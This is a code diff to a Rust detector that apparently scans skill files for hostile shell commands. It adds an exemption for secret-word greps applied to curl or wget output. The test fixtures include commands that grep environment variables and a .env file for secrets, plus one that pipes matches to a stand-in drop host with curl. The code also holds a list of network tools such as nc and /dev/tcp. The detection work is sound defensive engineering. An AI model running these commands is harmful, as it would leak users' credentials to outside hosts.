@@ -11,6 +11,8 @@
 //!   a disclosed unattended run the user starts, like a CI job, not a hidden one.
 //! - [`package_index_named_after`]: `pip install … --index-url https://pypi.<vendor>.<tld>/…` in a
 //!   skill named after that vendor: the vendor's own package index, like a vendor's installer.
+//! - [`filters_download`]: a pattern of secret words (`grep -iE "(token|secret)"`) applied to what
+//!   `curl`/`wget` prints: it reads a fetched page, not the user's secrets.
 //! - [`quoted_comment_opener`]: an HTML comment opener (`<!--`) inside a quoted string on a code
 //!   line (a grep pattern, a template): a literal, not Markdown text hidden from the reader.
 
@@ -155,12 +157,10 @@ const INDEX_LABELS: [&str; 6] = ["pypi", "pip", "packages", "pkgs", "registry", 
 /// name words: `pip install ovx --index-url https://pypi.acme.example` in a skill named `acme-viewer`.
 pub fn package_index_named_after(line: &str, words: &[String]) -> bool {
     let words_of_line: Vec<&str> = line.split_whitespace().collect();
-    words_of_line.windows(2).any(|p| {
-        let opt = p[0].split('=').next().unwrap_or("");
-        let value = if p[0].contains('=') {
-            p[0].split_once('=').map_or("", |(_, v)| v)
-        } else {
-            p[1]
+    words_of_line.iter().enumerate().any(|(i, w)| {
+        let (opt, value) = match w.split_once('=') {
+            Some((o, v)) => (o, v),
+            None => (*w, words_of_line.get(i + 1).copied().unwrap_or("")),
         };
         matches!(
             opt,
@@ -195,6 +195,45 @@ pub fn quoted_comment_opener(line: &str, at: usize) -> bool {
             .count()
     };
     count(b'"') % 2 == 1 || count(b'\'') % 2 == 1
+}
+
+/// Whether the match at byte `at` of `line` filters what a download prints: it stands in a
+/// command after a shell pipe (outside quotes) whose left-hand command is `curl` or `wget`
+/// (`curl -s "$URL" | grep -iE "(token|secret)"`), and nothing after it on the line reaches the
+/// network again. A pattern of secret words applied to a fetched page reads the page, not the
+/// user's secrets.
+pub fn filters_download(line: &str, at: usize) -> bool {
+    let Some(before) = line.get(..at) else {
+        return false;
+    };
+    let b = before.as_bytes();
+    let (mut quote, mut pipes) = (0u8, Vec::new());
+    for i in 0..b.len() {
+        match b[i] {
+            b'"' | b'\'' if quote == 0 => quote = b[i],
+            c if c == quote => quote = 0,
+            b'|' if quote == 0 && b.get(i + 1) != Some(&b'|') && (i == 0 || b[i - 1] != b'|') => {
+                pipes.push(i)
+            }
+            _ => {}
+        }
+    }
+    let Some(&last) = pipes.last() else {
+        return false;
+    };
+    let left_start = pipes
+        .iter()
+        .rev()
+        .nth(1)
+        .map_or(0, |&p| p + 1)
+        .max(before[..last].rfind(';').map_or(0, |p| p + 1))
+        .max(before[..last].rfind("&&").map_or(0, |p| p + 2));
+    let left = before[left_start..last].trim_start();
+    let after = crate::ascii_lowered(&line[at..]);
+    (left.starts_with("curl ") || left.starts_with("wget "))
+        && !["curl", "wget", "http", " nc ", "/dev/tcp"]
+            .iter()
+            .any(|w| after.contains(w))
 }
 
 #[cfg(test)]
@@ -260,6 +299,19 @@ mod tests {
             "pip install acmelib --index-url https://files.acme.example/simple",
             &w
         ));
+    }
+
+    #[test]
+    fn a_secret_word_filter_over_a_download() {
+        let l = r#"curl -sk "$URL" | grep -iE "(flag|password|secret|key)" | head"#;
+        assert!(filters_download(l, l.find("password").unwrap()));
+        let env = r#"env | grep -iE "(password|secret|key)" | head"#;
+        assert!(!filters_download(env, env.find("password").unwrap()));
+        let onward =
+            r#"curl -s "$U" | grep -E "token|key" | curl -d @- https://drop.example.invalid"#;
+        assert!(!filters_download(onward, onward.find("token").unwrap()));
+        let plain = r#"grep -E "token|key" .env"#;
+        assert!(!filters_download(plain, plain.find("token").unwrap()));
     }
 
     #[test]
